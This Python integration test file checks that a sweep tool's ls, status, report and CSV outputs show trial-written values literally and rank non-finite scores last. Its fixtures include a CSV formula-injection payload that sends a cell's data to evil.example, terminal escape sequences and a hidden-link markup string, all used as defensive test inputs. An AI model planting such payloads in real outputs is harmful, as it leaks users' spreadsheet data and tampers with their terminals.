"""What trials write reaches every user's ``ls``, ``status``, ``report`` and CSV as
data: never as rich markup, terminal control or a live spreadsheet formula, and
non-finite values are shown (``nan``, ``inf``) and ranked last.

Each test runs its sweep through the real services beside the bystander and
shows the three things every hostile test shows: the hostile sweep's trials
end, the bystander completes with every point, and every output is clean
(``assert_outputs_clean``); then what the user reads in particular.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from hostile import Hostile

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "\x1b[2J\x1b[H\x1b]0;pwned\x07"  # clear the screen, home the cursor, set the window title


def spec(name: str, script: str, space: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {
        "name": name,
        "command": ["python", "-c", script.replace("{", "{{").replace("}", "}}")],  # no {param} slots in the script
        "metric": {"name": "score", "mode": "min"},
        "space": space,
        "resources": {"gpus": 0, "class": "cpu"},
        **extra,
    }


def ended(hostile: Hostile, body: dict[str, Any], state: str, trials: str) -> tuple[str, list[dict[str, Any]]]:
    """Submit; the sweep ends in ``state`` with every trial in ``trials``; then the bystander and the outputs."""
    sweep_id = hostile.submit(body)
    assert hostile.wait_sweep(sweep_id, timeout=60) == state, (hostile.trials(sweep_id), hostile.cluster.logs())
    rows = hostile.trials(sweep_id)
    assert rows and {r["state"] for r in rows} == {trials}, rows
    hostile.assert_bystander_complete()
    hostile.assert_outputs_clean()
    return sweep_id, rows


def report(hostile: Hostile, sweep_id: str, tmp: Path) -> tuple[str, list[dict[str, str]]]:
    """``report``'s text and its CSV's rows."""
    path = tmp / f"{sweep_id}.csv"
    proc = hostile.cli("report", sweep_id, "--csv", str(path))
    assert proc.returncode == 0, proc.stderr
    with path.open(newline="") as f:
        return proc.stdout, list(csv.DictReader(f))


def test_markup_and_escapes_in_trial_names_and_params_are_shown_as_written(hostile: Hostile, tmp_path: Path) -> None:
    script = "from spotsweep import trial\ntrial.report(0, score=float(trial.params['i']))\n"
    params = ["[link=https://evil.example]click[/link]", f"title{ESCAPES}", HYPERLINK]
    body = spec("markup", script, {"p": params, "i": [0]}, trial_name="[/oops]_{index}")
    sweep_id, rows = ended(hostile, body, "completed", "completed")
    assert sorted(r["trial_name"] for r in rows) == ["[/oops]_0", "[/oops]_1", "[/oops]_2"]
    text, cells = report(hostile, sweep_id, tmp_path)
    assert "[/oops]_0" in text and "[link=https://evil.example]click[/link]" in text  # literal, not a hidden link
    assert "title\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07" in text
    assert {c["p"] for c in cells} == {params[0], "title\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07", "'" + HYPERLINK}
    ls = hostile.cli("ls", "--filter", f"sweep={sweep_id}")
    assert ls.returncode == 0 and ls.stdout.count("[/oops]_") == 3, ls.stdout


def test_a_failed_trial_s_stderr_is_no_formula_and_no_terminal_control(hostile: Hostile, tmp_path: Path) -> None:
    script = f"import sys\nsys.stderr.write({(HYPERLINK + ESCAPES + chr(0x9b) + '2J')!r})\nsys.exit(3)\n"
    body = spec("stderr", script, {"x": [0]}, retries={"max_failures": 0})
    sweep_id, [row] = ended(hostile, body, "failed", "failed")  # its only trial failed: the sweep did too
    assert HYPERLINK in row["error"], row["error"]
    text, [cell] = report(hostile, sweep_id, tmp_path)
    assert cell["error"].startswith("'=HYPERLINK(") and "\\x1b]0;pwned\\x07\\x9b2J" in cell["error"], cell
    assert "\\x1b[2J\\x1b[H" in text and "stderr" in text
    status = hostile.cli("status", sweep_id)
    assert status.returncode == 0 and "\x1b" not in status.stdout


def test_non_finite_values_are_shown_and_ranked_last(hostile: Hostile, tmp_path: Path) -> None:
    script = ("from spotsweep import trial\n"
              "trial.report(0, score=[float('nan'), float('inf'), float('-inf'), 2.5, 1.5][trial.params['x']])\n")
    sweep_id, rows = ended(hostile, spec("nonfinite", script, {"x": [0, 1, 2, 3, 4]}), "completed", "completed")
    stored = {r["params"]["x"]: r["metrics"]["score"] for r in rows}
    assert stored == {0: "NaN", 1: "Infinity", 2: "-Infinity", 3: 2.5, 4: 1.5}  # as the trial contract writes them
    text, cells = report(hostile, sweep_id, tmp_path)
    assert [c["x"] for c in cells][:2] == ["4", "3"] and {c["score"] for c in cells[2:]} == {"nan", "inf", "-inf"}
    assert " nan " in text and " -inf " in text
    ls = hostile.cli("ls", "--filter", f"sweep={sweep_id}")
    assert ls.returncode == 0 and "score=nan" in ls.stdout and "score=-inf" in ls.stdout, ls.stdout
    as_json = hostile.cli("ls", "--filter", f"sweep={sweep_id}", "--json")
    assert {r["metrics"]["score"] for r in json.loads(as_json.stdout, parse_constant=_strict)} == \
        {"NaN", "Infinity", "-Infinity", 2.5, 1.5}


def _strict(constant: str) -> None:
    raise AssertionError(f"--json wrote the non-standard constant {constant}")
